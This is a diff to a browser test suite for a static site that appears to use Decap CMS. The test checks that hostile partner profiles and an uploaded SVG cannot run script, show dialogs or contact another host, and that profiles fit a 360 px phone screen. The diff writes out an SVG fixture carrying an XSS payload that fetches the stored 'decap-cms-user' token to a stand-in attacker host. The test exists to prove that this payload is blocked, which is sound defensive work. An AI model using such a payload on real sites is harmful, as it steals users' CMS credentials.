@@ -3,39 +3,40 @@
  * the directory searched for them) with the site's real Content-Security-
  * Policy; nothing may open a dialog, log the marker or reach another host.
  */
-import { mkdtempSync, rmSync } from 'node:fs';
-import type { AddressInfo } from 'node:net';
+import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
-import express from 'express';
 import type { Browser } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { serveDist } from '../../scripts/serve-dist.ts';
 import { buildWithPartners } from '../build-partners';
-import { inertCases, MARKER } from '../hostile/corpus';
+import { ATTACKER_HOST, inertCases, MARKER, wideCases } from '../hostile/corpus';
 import { launchBrowser } from './browser';
 
 const work = mkdtempSync(join(tmpdir(), 'hostile-browser-'));
 let browser: Browser;
-let server: ReturnType<ReturnType<typeof express>['listen']>;
+let server: Awaited<ReturnType<typeof serveDist>>;
 let origin: string;
 
 beforeAll(async () => {
   const build = buildWithPartners(
     work,
-    Object.fromEntries(inertCases.map((hostile) => [hostile.slug, hostile.markdown])),
+    Object.fromEntries([...inertCases, ...wideCases].map((hostile) => [hostile.slug, hostile.markdown])),
   );
   if (build.status !== 0) throw new Error(build.output);
-  const app = express();
-  app.use(express.static(build.dist));
-  server = app.listen(0, '127.0.0.1');
-  await new Promise((done) => server.once('listening', done));
-  origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
+  // An SVG that slipped past the build (which refuses it), served as the static host serves uploads.
+  writeFileSync(
+    join(build.dist, 'uploads/hostile-logo.svg'),
+    `<svg xmlns="http://www.w3.org/2000/svg" onload="alert('${MARKER}')"><script>console.log('${MARKER}', localStorage.length); fetch('https://${ATTACKER_HOST}/?t=' + localStorage.getItem('decap-cms-user'))</script><rect width="10" height="10"/></svg>`,
+  );
+  server = await serveDist(build.dist);
+  origin = server.url;
   browser = await launchBrowser();
 }, 180_000);
 
 afterAll(async () => {
   await browser?.close();
-  server?.close();
+  await server?.close();
   rmSync(work, { recursive: true, force: true });
 });
 
@@ -68,4 +69,41 @@ describe('hostile content in the browser', () => {
     expect(requests).toEqual([]);
     await context.close();
   });
+
+  it('runs nothing in an uploaded SVG opened directly, from a profile link or by its address', async () => {
+    const context = await browser.newContext();
+    const ran: string[] = [];
+    const requests: string[] = [];
+    context.on('request', (request) => {
+      if (!request.url().startsWith(origin)) requests.push(request.url());
+    });
+    const page = await context.newPage();
+    page.on('dialog', (dialog) => {
+      ran.push(`dialog: ${dialog.message()}`);
+      void dialog.dismiss();
+    });
+    page.on('console', (message) => {
+      if (message.text().includes(MARKER)) ran.push(`console: ${message.text()}`);
+    });
+    await page.goto(`${origin}/partners/hostile-upload-link/`);
+    await page.evaluate(() => localStorage.setItem('decap-cms-user', '{"token":"secret"}'));
+    await Promise.all([page.waitForURL(/hostile-logo\.svg$/), page.getByRole('link', { name: 'logo' }).click()]);
+    await page.waitForLoadState('networkidle');
+    await page.goto(`${origin}/uploads/hostile-logo.svg`);
+    await page.waitForLoadState('networkidle');
+    expect(ran).toEqual([]);
+    expect(requests).toEqual([]);
+    await context.close();
+  });
+
+  it.each(wideCases.map((hostile) => [hostile.what, hostile.slug] as const))(
+    '%s: the profile stays as wide as a 360 px phone',
+    async (_, slug) => {
+      const page = await browser.newPage({ viewport: { width: 360, height: 800 } });
+      await page.goto(`${origin}/partners/${slug}/`);
+      const width = await page.evaluate(() => document.documentElement.scrollWidth);
+      await page.close();
+      expect(width).toBeLessThanOrEqual(360);
+    },
+  );
 });
